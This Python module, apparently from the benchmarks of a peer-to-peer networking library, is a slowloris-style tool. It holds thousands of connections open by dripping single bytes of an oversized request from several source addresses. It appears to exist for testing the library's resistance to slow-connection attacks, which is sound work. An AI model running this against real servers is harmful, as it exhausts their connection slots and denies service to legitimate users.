"""Hold slow connections: ``python -m benchmarks.attacks.slow HOST PORT COUNT SOURCE ...``.

COUNT connections from the SOURCE addresses in turn; each sends a byte of a request every few seconds, and one that is
closed is replaced after a pause. Prints ``ready`` when all have been tried; at SIGTERM, a JSON object: connections that
are open, and all that were made.
"""

import asyncio
import json
import os
import random
import signal
import sys

from p2p_twisted.wire.encode import encode_request
from p2p_twisted.wire.messages import KeepAlive, Request, Version

BYTE_INTERVAL = (1.0, 4.0)
"""Minimum and maximum seconds between two bytes."""
PAUSE = (0.5, 2.0)
"""Minimum and maximum seconds before a lost connection is replaced."""
TOGETHER = 500
"""Connections that are being made at the same time."""
TEXT = encode_request(Request(KeepAlive(2**62, 4400), Version.V11, "a" * 200, "b" * 200))


class Slow:
    """Holds slow connections to ``address``, and counts them."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.open = self.made = self.tried = 0
        self._address = address
        self._turns = asyncio.Semaphore(TOGETHER)

    async def hold(self, source: str) -> None:
        """Keep one connection from ``source``, again and again."""
        while True:
            try:
                async with self._turns:
                    self.tried += 1
                    reader, writer = await asyncio.open_connection(*self._address, local_addr=(source, 0))
                await self._drip(reader, writer)
            except OSError:
                pass  # it was refused, or reset
            await asyncio.sleep(random.uniform(*PAUSE))

    async def _drip(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.open += 1
        self.made += 1
        try:
            for byte in TEXT:
                writer.write(bytes([byte]))
                try:
                    await asyncio.wait_for(reader.read(), random.uniform(*BYTE_INTERVAL))
                except TimeoutError:
                    continue
                return
        finally:
            self.open -= 1
            writer.transport.abort()


async def main() -> None:
    host, port, count, *sources = sys.argv[1:]
    slow, over = Slow((host, int(port))), asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, over.set)
    tasks = [asyncio.create_task(slow.hold(sources[number % len(sources)])) for number in range(int(count))]
    while slow.tried < len(tasks):
        await asyncio.sleep(0.1)
    print("ready", flush=True)
    await over.wait()
    print(json.dumps({"open": slow.open, "made": slow.made}), flush=True)
    os._exit(0)  # ending ten thousand tasks one by one takes long


if __name__ == "__main__":
    asyncio.run(main())
